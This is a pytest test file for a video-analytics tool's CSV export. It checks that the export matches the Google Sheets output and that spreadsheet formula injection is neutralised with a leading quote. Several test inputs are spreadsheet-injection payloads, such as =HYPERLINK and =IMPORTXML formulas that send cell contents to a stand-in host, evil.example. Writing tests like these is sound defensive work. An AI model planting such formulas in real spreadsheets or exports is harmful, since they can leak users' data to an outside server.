"""`vidstats export --csv DIR`: the same tables as the Sheets export, as CSV files."""

from __future__ import annotations

import csv
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from vidstats import cli
from vidstats.db import Database, Role
from vidstats.export.cells import datetime_from_serial, serial_from_datetime, to_csv_text, to_sheet_value
from vidstats.export.run import ServiceAccount, export_to_csv, export_to_sheets
from vidstats.export.tables import ExportTarget
from vidstats.read_model import refresh_read_model

from tests.conftest import IsolatedDatabase
from tests.sheets_export.conftest import SPREADSHEET_ID, dummy_credentials
from tests.sheets_export.seed import AS_OF, small_catalogue
from tests.sheets_export.sheets_api import SheetsApi

EPOCH = datetime(1899, 12, 30)


def as_text(value: Any) -> str:
    """A written Sheets value as the CSV spells it: date serials (floats here) as UTC date-times."""
    if isinstance(value, float):
        return (EPOCH + timedelta(seconds=round(value * 86_400))).strftime("%Y-%m-%d %H:%M:%S")
    return str(value)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_csv_files_hold_exactly_what_the_sheets_export_writes(
        db: Database, sheets_api: SheetsApi, tmp_path: Path) -> None:
    ids = small_catalogue(db)
    targets = [ExportTarget(spreadsheet_id=SPREADSHEET_ID),
               ExportTarget(spreadsheet_id=SPREADSHEET_ID, campaign_id=ids["campaign"])]  # type: ignore[arg-type]
    sheets_api.add_spreadsheet(SPREADSHEET_ID)
    export_to_sheets(db, targets, ServiceAccount(dummy_credentials(), None, None), as_of=AS_OF)

    written = export_to_csv(db, targets, tmp_path, as_of=AS_OF)

    assert [(p.name, rows) for p, rows in written] == [("all-videos.csv", 3), ("autumn-launch.csv", 2)]
    sheet_values = dict(sheets_api.value_ranges())
    for path, a1 in [(tmp_path / "all-videos.csv", "'All videos (updating)'!A1:U4"),
                     (tmp_path / "autumn-launch.csv", "'Autumn launch (updating)'!A1:R9")]:
        assert read_csv(path) == [[as_text(v) for v in row] for row in sheet_values[a1]]
    assert read_csv(tmp_path / "all-videos.csv")[2][3] == "Morning routine ☀️ \"quoted\", =SUM(A1)"


def test_vidstats_export_csv_writes_all_videos_and_every_campaign(
        db: Database, database: IsolatedDatabase, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    small_catalogue(db)
    monkeypatch.delenv("SHEETS_EXPORT_TARGETS", raising=False)

    code = cli.main(["export", "--csv", str(tmp_path / "out"), "--database-url", database.owner_url])

    assert code == 0
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["all-videos.csv", "autumn-launch.csv"]
    lines = read_csv(tmp_path / "out" / "all-videos.csv")
    assert lines[1][:11] == ["instagram", "https://www.instagram.com/reel/C1a2B3c4D5e/", "", "",
                             "2026-10-21 11:59:00", "tracking", "1600", "130", "15", "6", "4"]
    assert [len(line) for line in lines] == [21] * 4
    assert "all-videos.csv: 3 videos" in capsys.readouterr().out


def test_an_unknown_campaign_is_a_clear_error(db: Database, database: IsolatedDatabase, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    code = cli.main(["export", "--csv", str(tmp_path), "--database-url", database.owner_url,
                     "--campaign", "6f1c2d3e-0000-4000-8000-000000000000"])

    assert code == 1
    assert "campaign 6f1c2d3e-0000-4000-8000-000000000000 does not exist" in capsys.readouterr().err


@pytest.mark.parametrize(("value", "sheet", "text"), [
    (Decimal("1234"), 1234, "1234"),
    (Decimal("12.50"), 12.5, "12.5"),
    (None, "", ""),
    (True, True, "TRUE"),
    (datetime(2026, 10, 25, 23, 30, 15, 999_999, tzinfo=ZoneInfo("Europe/Berlin")), 46320.93767361111,
     "2026-10-25 22:30:15"),
    (datetime(2026, 10, 25).date(), 46320, "2026-10-25"),
])
def test_decimals_and_datetimes_become_numbers_and_utc_date_serials(value: Any, sheet: Any, text: str) -> None:
    assert to_sheet_value(value) == sheet
    assert type(to_sheet_value(value)) is type(sheet)
    assert to_csv_text(value) == text


def test_date_serials_round_trip_to_the_second() -> None:
    instant = datetime(2026, 10, 25, 22, 30, 15)
    assert datetime_from_serial(serial_from_datetime(instant)) == instant


@pytest.mark.parametrize(("text", "written"), [
    ('=HYPERLINK("https://evil.example/?"&A1, "click")', '\'=HYPERLINK("https://evil.example/?"&A1, "click")'),
    ("=IMPORTXML(CONCAT(\"https://evil.example/?\", B2), \"//a\")",
     "'=IMPORTXML(CONCAT(\"https://evil.example/?\", B2), \"//a\")"),
    ("+1 555 0100 call me", "'+1 555 0100 call me"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Morning routine =SUM(A1)", "Morning routine =SUM(A1)"),  # only a leading sign makes a formula
    ("", ""),
])
def test_csv_text_cells_that_a_spreadsheet_program_would_run_get_a_leading_quote(text: str, written: str) -> None:
    assert to_csv_text(text) == written
    assert to_sheet_value(text) == text  # the Sheets path writes RAW: stays text as it is


@pytest.mark.parametrize(("value", "text"), [(-5, "-5"), (Decimal("-12.5"), "-12.5"), (-0.25, "-0.25")])
def test_csv_negative_numbers_stay_numbers(value: Any, text: str) -> None:
    assert to_csv_text(value) == text


def test_a_formula_like_caption_reaches_the_csv_file_neutralised(
        db: Database, tmp_path: Path) -> None:
    ids = small_catalogue(db)
    with db.transaction(Role.INGEST) as conn:
        conn.execute("update analytics.videos set caption = %s where id = %s",
                     ('=HYPERLINK("https://evil.example","win")', ids["a"]))
    refresh_read_model(db)

    export_to_csv(db, [ExportTarget(spreadsheet_id=SPREADSHEET_ID)], tmp_path, as_of=AS_OF)

    with (tmp_path / "all-videos.csv").open(newline="", encoding="utf-8") as handle:
        lines = list(csv.reader(handle))
    assert lines[2][3] == '\'=HYPERLINK("https://evil.example","win")'
    assert lines[2][6] == "400"  # numbers untouched
